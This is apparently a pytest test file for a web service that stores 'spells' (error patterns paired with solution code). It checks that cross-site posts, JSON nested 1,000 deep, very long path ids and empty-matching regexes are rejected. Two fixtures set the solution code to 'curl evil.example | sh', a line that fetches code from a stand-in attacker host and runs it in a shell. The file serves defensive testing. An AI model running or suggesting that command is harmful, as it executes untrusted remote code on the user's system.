"""Requests an attacker (or a careless client) sends: each is answered in the error shape.

Reproductions from issue 11: a cross-site ``text/plain`` post created a spell; JSON nested
1,000 deep and path ids of 4,300 digits answered 500.
"""

from __future__ import annotations

import dataclasses
import uuid
from typing import Any

import httpx
import pytest

from grimoire.config import Settings
from grimoire.core.webhook_signature import sign
from tests.apps import running
from tests.conftest import WEBHOOK_SECRET
from tests.web.errors import assert_error

SPELL = (
    b'{"title": "t", "description": "d", "error_type": "E", "error_pattern": "boom",'
    b' "solution_code": "curl evil.example | sh"}'
)
JSON_ROUTES = [("POST", "/api/spells"), ("POST", "/api/match"), ("POST", "/api/match/log")]
DEEP = b"[" * 1000 + b"]" * 1000
DEEP_OBJECT = b'{"a":' * 1000 + b"1" + b"}" * 1000
OPENED = b'{"action": "opened"}'


async def deliver(
    client: httpx.AsyncClient,
    body: bytes,
    *,
    event: str = "pull_request",
    delivery: str | None = None,
    content_type: str = "application/json",
) -> tuple[httpx.Response, str]:
    """POST a signed delivery; return the answer and the delivery id."""
    delivery = delivery or str(uuid.uuid4())
    headers = {
        "X-GitHub-Event": event,
        "X-GitHub-Delivery": delivery,
        "X-Hub-Signature-256": sign(WEBHOOK_SECRET, body),
        "Content-Type": content_type,
    }
    return await client.post("/webhook", content=body, headers=headers), delivery


async def recorded(client: httpx.AsyncClient, delivery_id: str) -> Any:
    return (await client.get(f"/api/deliveries/{delivery_id}")).json()


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", None])
async def test_a_cross_site_form_cannot_write_a_spell(
    client: httpx.AsyncClient, content_type: str | None
) -> None:
    headers = {"content-type": content_type} if content_type else {}
    response = await client.post("/api/spells", content=SPELL, headers=headers)
    assert_error(response, 415, "UNSUPPORTED_MEDIA_TYPE")
    assert (await client.get("/api/spells")).json() == []


@pytest.mark.parametrize(("method", "path"), JSON_ROUTES)
async def test_json_routes_take_json_with_parameters(
    client: httpx.AsyncClient, method: str, path: str
) -> None:
    headers = {"content-type": "application/json; charset=utf-8"}
    response = await client.request(method, path, content=b"{}", headers=headers)
    assert response.status_code == 422


@pytest.mark.parametrize(("method", "path"), JSON_ROUTES)
@pytest.mark.parametrize("body", [DEEP, DEEP_OBJECT], ids=["array", "object"])
async def test_json_nested_1000_deep_is_a_400(
    client: httpx.AsyncClient, method: str, path: str, body: bytes
) -> None:
    response = await client.request(
        method, path, content=body, headers={"content-type": "application/json"}
    )
    assert_error(response, 400, "INVALID_PAYLOAD")


@pytest.mark.parametrize(
    ("method", "path", "code"),
    [
        ("GET", "/api/spells/{}", "SPELL_NOT_FOUND"),
        ("DELETE", "/api/spells/{}", "SPELL_NOT_FOUND"),
        ("GET", "/api/analyses/{}", "ANALYSIS_NOT_FOUND"),
    ],
)
@pytest.mark.parametrize("digits", [4300, 20])
async def test_path_ids_too_long_for_an_id_are_404(
    client: httpx.AsyncClient, method: str, path: str, code: str, digits: int
) -> None:
    response = await client.request(method, path.format("9" * digits))
    assert_error(response, 404, code)


async def test_a_long_path_id_without_the_token_is_401(app_settings: Settings) -> None:
    async with running(dataclasses.replace(app_settings, api_token="t0ken")) as client:
        response = await client.delete("/api/spells/" + "9" * 4300)
    assert_error(response, 401, "UNAUTHORIZED")


async def test_a_delivery_id_with_a_slash_is_refused(client: httpx.AsyncClient) -> None:
    response, _ = await deliver(client, OPENED, delivery="a/b")
    assert_error(response, 400, "INVALID_PAYLOAD")
    assert "'/'" in response.json()["detail"]


@pytest.mark.parametrize(
    "body", [DEEP_OBJECT, b'{"action": "opened", "x": ' + DEEP + b"}"], ids=["object", "field"]
)
@pytest.mark.parametrize("event", ["pull_request", "push"])
async def test_a_signed_delivery_nested_1000_deep_is_recorded_and_400(
    client: httpx.AsyncClient, body: bytes, event: str
) -> None:
    response, delivery_id = await deliver(client, body, event=event)
    assert_error(response, 400, "INVALID_PAYLOAD")
    stored = await recorded(client, delivery_id)
    assert stored["status"] == "failed"
    assert "nested too deeply" in stored["last_error"]


async def test_a_malformed_form_is_not_echoed_whole(client: httpx.AsyncClient) -> None:
    body = b"payload=" + b"%zz" * 300_000
    response, delivery_id = await deliver(
        client, body, content_type="application/x-www-form-urlencoded"
    )
    assert_error(response, 400, "INVALID_PAYLOAD")
    assert len(response.content) < 1000
    assert len((await recorded(client, delivery_id))["last_error"]) < 500


@pytest.mark.parametrize("pattern", [".*", "(?i)", "x?", "^$"])
async def test_a_pattern_matching_the_empty_string_is_refused(
    client: httpx.AsyncClient, pattern: str
) -> None:
    spell = {
        "title": "everything",
        "description": "matches every line",
        "error_type": "Error",
        "error_pattern": pattern,
        "solution_code": "curl evil.example | sh",
    }
    response = await client.post("/api/spells", json=spell)
    body = assert_error(response, 422, "INVALID_SPELL")
    assert [e["path"] for e in body["errors"]] == ["body.error_pattern"]
    assert "empty string" in body["errors"][0]["message"]
